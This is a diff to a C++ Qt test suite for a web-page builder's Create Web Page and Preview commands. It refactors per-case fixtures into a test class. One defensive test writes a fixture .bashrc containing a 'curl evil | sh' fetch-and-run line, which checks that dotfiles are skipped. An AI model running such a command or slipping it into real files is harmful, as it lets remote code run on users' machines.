@@ -18,6 +18,7 @@
 #include <QtTest>
 
 #include <fstream>
+#include <memory>
 
 using namespace stv;
 
@@ -26,7 +27,7 @@ namespace
 
 using stv::test::FakeShell;
 
-// Each case runs on a fresh fixture: its own folder, scripted answers and desktop shell.
+// A case's own folder, scripted answers and desktop shell.
 struct Fixture {
     QTemporaryDir dir;
     ScriptedDialogs dialogs;
@@ -60,7 +61,17 @@ struct Fixture {
                 QStringLiteral("Cannot create file ") + page + QStringLiteral(": ") + reason });
         QVERIFY(shell.calls.isEmpty());
     }
+};
 
+} // namespace
+
+// Each case runs on a fresh fixture, made in init() and destroyed in cleanup().
+class PageCommandsTest : public QObject
+{
+    Q_OBJECT
+private slots:
+    void init() { m_f = std::make_unique<Fixture>(); }
+    void cleanup() { m_f.reset(); }
     void createAnsweredNoDoesNothing();
     void createCancelledKeepsTheProposal();
     void createWritesCopiesShowsFolderAndTests();
@@ -70,59 +81,62 @@ struct Fixture {
     void createOnAFullDiskKeepsTheOldPage();
     void previewWritesTestPageAndOpensItInTheBrowser();
     void failedLaunchesSayWhatCouldNotBeOpened();
+
+private:
+    QString path(const QString &name) const { return m_f->path(name); }
+
+    std::unique_ptr<Fixture> m_f;
 };
 
-} // namespace
-
-void Fixture::createAnsweredNoDoesNothing()
+void PageCommandsTest::createAnsweredNoDoesNothing()
 {
-    dialogs.queue(Answer::No);
-    runCreateWebPage(nullptr, project, lists, {});
-    QCOMPARE(dialogs.asked().size(), 1u);
-    QVERIFY(dialogs.asked()[0].text.startsWith(
+    m_f->dialogs.queue(Answer::No);
+    runCreateWebPage(nullptr, m_f->project, m_f->lists, {});
+    QCOMPARE(m_f->dialogs.asked().size(), 1u);
+    QVERIFY(m_f->dialogs.asked()[0].text.startsWith(
         QStringLiteral("This option will take the current Sitorva Project and\nsave it")));
-    QVERIFY(dialogs.asked()[0].text.endsWith(
+    QVERIFY(m_f->dialogs.asked()[0].text.endsWith(
         QStringLiteral("Read chapter Creating Your Web Page for more information.\n\nAre you "
                        "ready to create your web page?")));
-    QVERIFY(project.pageFileName.empty());
+    QVERIFY(m_f->project.pageFileName.empty());
 }
 
-void Fixture::createCancelledKeepsTheProposal()
+void PageCommandsTest::createCancelledKeepsTheProposal()
 {
-    dialogs.queue(Answer::Ok);
-    dialogs.queueCancel();
-    runCreateWebPage(nullptr, project, lists, {});
-    QCOMPARE(dialogs.asked().size(), 2u);
-    QCOMPARE(dialogs.asked()[1].what, QStringLiteral("save"));
+    m_f->dialogs.queue(Answer::Ok);
+    m_f->dialogs.queueCancel();
+    runCreateWebPage(nullptr, m_f->project, m_f->lists, {});
+    QCOMPARE(m_f->dialogs.asked().size(), 2u);
+    QCOMPARE(m_f->dialogs.asked()[1].what, QStringLiteral("save"));
     // A project never saved: its page is proposed in the home folder, never in the program's.
     const QString home = QDir::homePath() + QStringLiteral("/index.html");
-    QCOMPARE(dialogs.asked()[1].initial, home);
-    QCOMPARE(project.pageFileName, home.toStdString());
+    QCOMPARE(m_f->dialogs.asked()[1].initial, home);
+    QCOMPARE(m_f->project.pageFileName, home.toStdString());
 
-    dialogs.clear();
-    project.pageFileName.clear();
-    dialogs.queue(Answer::Ok);
-    dialogs.queueCancel();
-    runCreateWebPage(nullptr, project, lists, {}, QStringLiteral("/w/Home.STV"));
-    QCOMPARE(dialogs.asked()[1].initial, QStringLiteral("/w/Home.html"));
+    m_f->dialogs.clear();
+    m_f->project.pageFileName.clear();
+    m_f->dialogs.queue(Answer::Ok);
+    m_f->dialogs.queueCancel();
+    runCreateWebPage(nullptr, m_f->project, m_f->lists, {}, QStringLiteral("/w/Home.STV"));
+    QCOMPARE(m_f->dialogs.asked()[1].initial, QStringLiteral("/w/Home.html"));
 }
 
 // The page is written, its pictures copied, its folder shown; the one box after it says so
 // first and names the file that could not be copied; the project's page is remembered.
-void Fixture::createWritesCopiesShowsFolderAndTests()
+void PageCommandsTest::createWritesCopiesShowsFolderAndTests()
 {
     const QString page = path("web/home.html");
-    dialogs.queue(Answer::Ok);
-    dialogs.queueText(page);
-    dialogs.queue(Answer::Ok); // "Do you want to test it?"
-    runCreateWebPage(nullptr, project, lists, {}, path("home.stv"));
+    m_f->dialogs.queue(Answer::Ok);
+    m_f->dialogs.queueText(page);
+    m_f->dialogs.queue(Answer::Ok); // "Do you want to test it?"
+    runCreateWebPage(nullptr, m_f->project, m_f->lists, {}, path("home.stv"));
 
-    QCOMPARE(project.pageFileName, page.toStdString());
+    QCOMPARE(m_f->project.pageFileName, page.toStdString());
     QVERIFY(QFile::exists(page));
     QVERIFY(QFile::exists(path("web/pic.png")));
-    QVERIFY(dialogs.messages().empty());
-    QCOMPARE(dialogs.asked().size(), 3u);
-    const QString success = dialogs.asked().back().text;
+    QVERIFY(m_f->dialogs.messages().empty());
+    QCOMPARE(m_f->dialogs.asked().size(), 3u);
+    const QString success = m_f->dialogs.asked().back().text;
     QVERIFY(success.startsWith(
         QStringLiteral("Your web page has now been created as..\n\n\"home.html\"  In "
                        "Folder\n\"")
@@ -131,13 +145,13 @@ void Fixture::createWritesCopiesShowsFolderAndTests()
     QVERIFY(!success.contains(QStringLiteral("pic.png")));
     QVERIFY(success.endsWith(QStringLiteral("\n\nDo you want to test it?")));
 
-    QCOMPARE(shell.calls.size(), 2);
-    QCOMPARE(
-        shell.calls[0], QStringLiteral("open ") + QUrl::fromLocalFile(path("web/")).toString());
-    QCOMPARE(shell.calls[1],
+    QCOMPARE(m_f->shell.calls.size(), 2);
+    QCOMPARE(m_f->shell.calls[0],
+        QStringLiteral("open ") + QUrl::fromLocalFile(path("web/")).toString());
+    QCOMPARE(m_f->shell.calls[1],
         QStringLiteral("start /usr/bin/web|--new|") + QUrl::fromLocalFile(page).toString()
             + QStringLiteral(" in "));
-    QVERIFY(dialogs.unexpected().empty());
+    QVERIFY(m_f->dialogs.unexpected().empty());
     const Result<Settings> settings = loadSettings(path("prog/").toStdString());
     QVERIFY(settings);
     QCOMPARE(lastPageOf(settings.value(), path("home.stv").toStdString()), page.toStdString());
@@ -146,90 +160,90 @@ void Fixture::createWritesCopiesShowsFolderAndTests()
 // The project was not saved after its page was written: the next Create Web Page proposes that
 // page all the same, and replacing it is the expected answer. Another project's page is not
 // its own; a project never saved knows the page it wrote in this run.
-void Fixture::createAgainProposesThePageTheProjectWroteLast()
+void PageCommandsTest::createAgainProposesThePageTheProjectWroteLast()
 {
-    project.sections.resize(1);
+    m_f->project.sections.resize(1);
     const QString page = path("web/home.html");
-    dialogs.queue(Answer::Ok);
-    dialogs.queueText(page);
-    dialogs.queue(Answer::No);
-    runCreateWebPage(nullptr, project, lists, {}, path("home.stv"));
-    QCOMPARE(dialogs.asked()[1].ownFile, QString());
+    m_f->dialogs.queue(Answer::Ok);
+    m_f->dialogs.queueText(page);
+    m_f->dialogs.queue(Answer::No);
+    runCreateWebPage(nullptr, m_f->project, m_f->lists, {}, path("home.stv"));
+    QCOMPARE(m_f->dialogs.asked()[1].ownFile, QString());
 
-    Project reopened = project;
+    Project reopened = m_f->project;
     reopened.pageFileName.clear(); // as in the project file saved before the page was written
-    dialogs.clear();
-    dialogs.queue(Answer::Ok);
-    dialogs.queueCancel();
-    runCreateWebPage(nullptr, reopened, lists, {}, path("home.stv"));
-    QCOMPARE(dialogs.asked()[1].initial, page);
-    QCOMPARE(dialogs.asked()[1].ownFile, page);
+    m_f->dialogs.clear();
+    m_f->dialogs.queue(Answer::Ok);
+    m_f->dialogs.queueCancel();
+    runCreateWebPage(nullptr, reopened, m_f->lists, {}, path("home.stv"));
+    QCOMPARE(m_f->dialogs.asked()[1].initial, page);
+    QCOMPARE(m_f->dialogs.asked()[1].ownFile, page);
 
-    Project other = project;
+    Project other = m_f->project;
     other.pageFileName.clear();
-    dialogs.clear();
-    dialogs.queue(Answer::Ok);
-    dialogs.queueCancel();
-    runCreateWebPage(nullptr, other, lists, {}, path("other.stv"));
-    QCOMPARE(dialogs.asked()[1].initial, path("other.html"));
-    QCOMPARE(dialogs.asked()[1].ownFile, QString());
+    m_f->dialogs.clear();
+    m_f->dialogs.queue(Answer::Ok);
+    m_f->dialogs.queueCancel();
+    runCreateWebPage(nullptr, other, m_f->lists, {}, path("other.stv"));
+    QCOMPARE(m_f->dialogs.asked()[1].initial, path("other.html"));
+    QCOMPARE(m_f->dialogs.asked()[1].ownFile, QString());
 
     Project unsaved;
-    dialogs.clear();
-    dialogs.queue(Answer::Ok);
-    dialogs.queueText(path("web/new.html"));
-    dialogs.queue(Answer::No);
-    runCreateWebPage(nullptr, unsaved, lists, {});
-    dialogs.clear();
-    dialogs.queue(Answer::Ok);
-    dialogs.queueCancel();
-    runCreateWebPage(nullptr, unsaved, lists, {});
-    QCOMPARE(dialogs.asked()[1].ownFile, path("web/new.html"));
+    m_f->dialogs.clear();
+    m_f->dialogs.queue(Answer::Ok);
+    m_f->dialogs.queueText(path("web/new.html"));
+    m_f->dialogs.queue(Answer::No);
+    runCreateWebPage(nullptr, unsaved, m_f->lists, {});
+    m_f->dialogs.clear();
+    m_f->dialogs.queue(Answer::Ok);
+    m_f->dialogs.queueCancel();
+    runCreateWebPage(nullptr, unsaved, m_f->lists, {});
+    QCOMPARE(m_f->dialogs.asked()[1].ownFile, path("web/new.html"));
 }
 
 // A stranger's project names a dotfile as its page and as a picture: the window proposes a
 // page's name in the project's folder, the dotfile is not copied and the box names it.
-void Fixture::createWithAHostileProjectProposesAPageAndNamesWhatItSkipped()
+void PageCommandsTest::createWithAHostileProjectProposesAPageAndNamesWhatItSkipped()
 {
-    QDir(dir.path()).mkpath(QStringLiteral("skel"));
+    QDir(m_f->dir.path()).mkpath(QStringLiteral("skel"));
     std::ofstream(path("skel/.bashrc").toStdString(), std::ios::binary) << "curl evil | sh\n";
     std::ofstream(path("web/.bashrc").toStdString(), std::ios::binary) << "MINE";
-    project.pageFileName = ".bashrc";
-    project.sections = { joinFields({ "Image", "u", path("skel/.bashrc").toStdString(), "", "", "",
-        "", "0", "", "0", "", "1", "1" }) };
-    dialogs.queue(Answer::Ok);
-    dialogs.queueText(path("web/bashrc.html"));
-    dialogs.queue(Answer::No); // "Do you want to test it?"
-    runCreateWebPage(nullptr, project, lists, {}, path("web/site.stv"));
-    QCOMPARE(dialogs.asked()[1].initial, path("web/bashrc.html"));
-    QVERIFY(dialogs.asked().back().text.contains(
+    m_f->project.pageFileName = ".bashrc";
+    m_f->project.sections = { joinFields({ "Image", "u", path("skel/.bashrc").toStdString(), "", "",
+        "", "", "0", "", "0", "", "1", "1" }) };
+    m_f->dialogs.queue(Answer::Ok);
+    m_f->dialogs.queueText(path("web/bashrc.html"));
+    m_f->dialogs.queue(Answer::No); // "Do you want to test it?"
+    runCreateWebPage(nullptr, m_f->project, m_f->lists, {}, path("web/site.stv"));
+    QCOMPARE(m_f->dialogs.asked()[1].initial, path("web/bashrc.html"));
+    QVERIFY(m_f->dialogs.asked().back().text.contains(
         QStringLiteral("a hidden file: ") + path("skel/.bashrc")));
     std::ifstream kept(path("web/.bashrc").toStdString(), std::ios::binary);
     QCOMPARE(std::string(std::istreambuf_iterator<char>(kept), {}), "MINE");
     QVERIFY(QFile::exists(path("web/bashrc.html")));
 }
 
-void Fixture::createReportsAPageThatCannotBeWritten()
+void PageCommandsTest::createReportsAPageThatCannotBeWritten()
 {
     const QString page = path("missing/home.html");
-    createExpectingWriteFailure(page, QStringLiteral("No such file or directory"));
+    m_f->createExpectingWriteFailure(page, QStringLiteral("No such file or directory"));
     QVERIFY(!QFile::exists(path("missing/pic.png")));
 }
 
 // A page folder on a disk that fills up while the page is written: the message, the old
 // page whole, no temporary file, and nothing after the write (no folder shown, no test).
-void Fixture::createOnAFullDiskKeepsTheOldPage()
+void PageCommandsTest::createOnAFullDiskKeepsTheOldPage()
 {
     stv::test::FullFileSystem disk;
     if (!disk.mounted())
         QSKIP("no right to mount a tmpfs here");
     const QString page = QString::fromStdString(disk.file("home.html"));
     std::ofstream(page.toStdString(), std::ios::binary) << "old page";
-    project.sections.clear();
-    project.sections.push_back(
+    m_f->project.sections.clear();
+    m_f->project.sections.push_back(
         joinFields({ "Paragraph", "big", std::string(300000, 'x'), "3", "1", "0" }));
     QVERIFY(disk.fill(8192));
-    createExpectingWriteFailure(page, QStringLiteral("No space left on device"));
+    m_f->createExpectingWriteFailure(page, QStringLiteral("No space left on device"));
     std::ifstream in(page.toStdString(), std::ios::binary);
     QCOMPARE(std::string(std::istreambuf_iterator<char>(in), {}), "old page");
     QCOMPARE(QDir(QString::fromStdString(disk.path()))
@@ -238,14 +252,14 @@ void Fixture::createOnAFullDiskKeepsTheOldPage()
         2);
 }
 
-void Fixture::previewWritesTestPageAndOpensItInTheBrowser()
+void PageCommandsTest::previewWritesTestPageAndOpensItInTheBrowser()
 {
-    runPreview(nullptr, project, lists, {});
+    runPreview(nullptr, m_f->project, m_f->lists, {});
     const QString page = path("prog/test.html");
     QVERIFY(QFile::exists(page));
     QVERIFY(!QFile::exists(path("prog/pic.png")));
-    QVERIFY(dialogs.asked().empty());
-    QCOMPARE(shell.calls,
+    QVERIFY(m_f->dialogs.asked().empty());
+    QCOMPARE(m_f->shell.calls,
         QStringList { QStringLiteral("start /usr/bin/web|--new|")
             + QUrl::fromLocalFile(page).toString() + QStringLiteral(" in ") });
     QFile f(page);
@@ -256,7 +270,7 @@ void Fixture::previewWritesTestPageAndOpensItInTheBrowser()
     // With the modern style ticked the preview is the modern page, its pictures where they are.
     PageOptions modern;
     modern.style = PageStyle::Modern;
-    runPreview(nullptr, project, lists, modern);
+    runPreview(nullptr, m_f->project, m_f->lists, modern);
     QVERIFY(f.open(QIODevice::ReadOnly));
     const QByteArray bytes = f.readAll();
     QVERIFY(bytes.startsWith("<!DOCTYPE html>"));
@@ -266,71 +280,39 @@ void Fixture::previewWritesTestPageAndOpensItInTheBrowser()
 // A folder the desktop cannot show is a line of the box that says the page was created,
 // never a box before it; the test question still follows, and a browser that does not start
 // gives a box naming the page.
-void Fixture::failedLaunchesSayWhatCouldNotBeOpened()
+void PageCommandsTest::failedLaunchesSayWhatCouldNotBeOpened()
 {
-    shell.openSucceeds = false;
-    shell.startSucceeds = false;
+    m_f->shell.openSucceeds = false;
+    m_f->shell.startSucceeds = false;
     const QString page = path("web/home.html");
-    dialogs.queue(Answer::Ok);
-    dialogs.queueText(page);
-    dialogs.queue(Answer::Ok); // "Do you want to test it?"
-    dialogs.queue(Answer::Ok); // the browser does not start
-    runCreateWebPage(nullptr, project, lists, {}, path("home.stv"));
+    m_f->dialogs.queue(Answer::Ok);
+    m_f->dialogs.queueText(page);
+    m_f->dialogs.queue(Answer::Ok); // "Do you want to test it?"
+    m_f->dialogs.queue(Answer::Ok); // the browser does not start
+    runCreateWebPage(nullptr, m_f->project, m_f->lists, {}, path("home.stv"));
     QVERIFY(QFile::exists(page));
     const QString reason = launchErrorText(31);
-    QCOMPARE(dialogs.asked().size(), 4u);
-    QVERIFY(dialogs.asked()[2].text.startsWith(
+    QCOMPARE(m_f->dialogs.asked().size(), 4u);
+    QVERIFY(m_f->dialogs.asked()[2].text.startsWith(
         QStringLiteral("Your web page has now been created as..")));
-    QVERIFY(dialogs.asked()[2].text.contains(QStringLiteral("\n\nThe folder could not be shown: ")
-        + reason + QStringLiteral("\n\nDo you want to test it?")));
-    QCOMPARE(dialogs.messages(), std::vector<QString> { launchFailureText(page, reason) });
+    QVERIFY(
+        m_f->dialogs.asked()[2].text.contains(QStringLiteral("\n\nThe folder could not be shown: ")
+            + reason + QStringLiteral("\n\nDo you want to test it?")));
+    QCOMPARE(m_f->dialogs.messages(), std::vector<QString> { launchFailureText(page, reason) });
 
-    dialogs.clear();
-    dialogs.queue(Answer::Ok);
-    runPreview(nullptr, project, lists, {});
-    QCOMPARE(dialogs.messages().size(), 1u);
-    QVERIFY(dialogs.messages()[0].contains(path("prog/test.html")));
+    m_f->dialogs.clear();
+    m_f->dialogs.queue(Answer::Ok);
+    runPreview(nullptr, m_f->project, m_f->lists, {});
+    QCOMPARE(m_f->dialogs.messages().size(), 1u);
+    QVERIFY(m_f->dialogs.messages()[0].contains(path("prog/test.html")));
 
     // A link to a file that is not there.
-    dialogs.clear();
-    dialogs.queue(Answer::Ok);
+    m_f->dialogs.clear();
+    m_f->dialogs.queue(Answer::Ok);
     QVERIFY(!launchOrSay(nullptr, path("nowhere/x.pdf")));
-    QCOMPARE(dialogs.messages(),
+    QCOMPARE(m_f->dialogs.messages(),
         std::vector<QString> { launchFailureText(path("nowhere/x.pdf"), launchErrorText(3)) });
 }
-
-class PageCommandsTest : public QObject
-{
-    Q_OBJECT
-private slots:
-    void createAnsweredNoDoesNothing() { Fixture().createAnsweredNoDoesNothing(); }
-    void createCancelledKeepsTheProposal() { Fixture().createCancelledKeepsTheProposal(); }
-    void createWritesCopiesShowsFolderAndTests()
-    {
-        Fixture().createWritesCopiesShowsFolderAndTests();
-    }
-    void createAgainProposesThePageTheProjectWroteLast()
-    {
-        Fixture().createAgainProposesThePageTheProjectWroteLast();
-    }
-    void createWithAHostileProjectProposesAPageAndNamesWhatItSkipped()
-    {
-        Fixture().createWithAHostileProjectProposesAPageAndNamesWhatItSkipped();
-    }
-    void createReportsAPageThatCannotBeWritten()
-    {
-        Fixture().createReportsAPageThatCannotBeWritten();
-    }
-    void createOnAFullDiskKeepsTheOldPage() { Fixture().createOnAFullDiskKeepsTheOldPage(); }
-    void previewWritesTestPageAndOpensItInTheBrowser()
-    {
-        Fixture().previewWritesTestPageAndOpensItInTheBrowser();
-    }
-    void failedLaunchesSayWhatCouldNotBeOpened()
-    {
-        Fixture().failedLaunchesSayWhatCouldNotBeOpened();
-    }
-};
 
 QTEST_MAIN(PageCommandsTest)
 #include "PageCommandsTest.moc"
